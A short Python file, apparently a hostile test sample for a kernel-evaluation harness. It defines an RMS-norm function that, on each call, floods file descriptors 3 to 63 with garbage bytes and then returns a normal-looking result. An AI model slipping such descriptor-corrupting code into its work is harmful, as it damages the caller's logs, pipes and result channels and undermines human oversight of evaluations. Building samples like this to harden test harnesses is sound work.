# ruff: noqa
"""Floods the descriptors with garbage on each call and keeps running."""

import os

import torch


def run(x, weight):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\x00garbage{{\n" * 4)
        except OSError:
            pass
    return x * torch.rsqrt(x.pow(2).mean(dim=-1, keepdim=True) + 1e-6) * weight
